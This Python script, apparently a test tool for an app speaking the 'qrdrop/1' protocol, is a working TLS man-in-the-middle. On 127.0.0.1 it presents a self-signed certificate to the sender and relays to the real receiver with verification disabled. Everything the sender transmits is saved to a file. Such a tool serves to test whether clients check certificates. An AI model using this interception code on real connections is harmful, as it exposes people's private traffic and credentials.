"""An attacker between sender and receiver: middle.py HOST:PORT HEARD

Ends the sender's TLS with a certificate of its own, speaks TLS to the real receiver with the same certificate, and
passes on what each says. Listens on a free port of 127.0.0.1, which is its first line. Every byte it could read of
the sender goes into the file HEARD. It serves one connection after the other until it is ended.
"""
import pathlib
import socket
import ssl
import subprocess
import sys
import tempfile
import threading

ALPN = "qrdrop/1"


def own_certificate(folder):
    key, certificate = f"{folder}/key.pem", f"{folder}/certificate.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "30",
         "-subj", "/CN=qrdrop", "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", key, "-out", certificate],
        check=True, capture_output=True)
    return certificate, key


def context(purpose, certificate):
    tls = ssl.SSLContext(purpose)
    tls.minimum_version = ssl.TLSVersion.TLSv1_3
    tls.check_hostname = False
    tls.verify_mode = ssl.CERT_NONE
    tls.set_alpn_protocols([ALPN])
    tls.load_cert_chain(*certificate)
    return tls


def carry(source, target, heard):
    """Passes on until one of the two ends, and then ends the other."""
    try:
        while data := source.recv(65536):
            if heard:
                heard.write(data)
            target.sendall(data)
    except OSError:
        pass
    for end in (source, target):
        try:
            end.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def attack(raw, receiver, server, client, heard):
    try:
        victim = server.wrap_socket(raw, server_side=True)
        real = client.wrap_socket(socket.create_connection(receiver))
    except (OSError, ssl.SSLError) as error:
        print(f"no TLS: {error}", flush=True)
        raw.close()
        return
    print("in between", flush=True)
    back = threading.Thread(target=carry, args=(real, victim, None), daemon=True)
    back.start()
    carry(victim, real, heard)
    back.join()


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    with tempfile.TemporaryDirectory() as folder, pathlib.Path(sys.argv[2]).open("wb", buffering=0) as heard:
        certificate = own_certificate(folder)
        server, client = (context(kind, certificate) for kind in (ssl.PROTOCOL_TLS_SERVER, ssl.PROTOCOL_TLS_CLIENT))
        with socket.create_server(("127.0.0.1", 0)) as listener:
            print(listener.getsockname()[1], flush=True)
            while True:
                raw, _ = listener.accept()
                attack(raw, (host, int(port)), server, client, heard)


main()
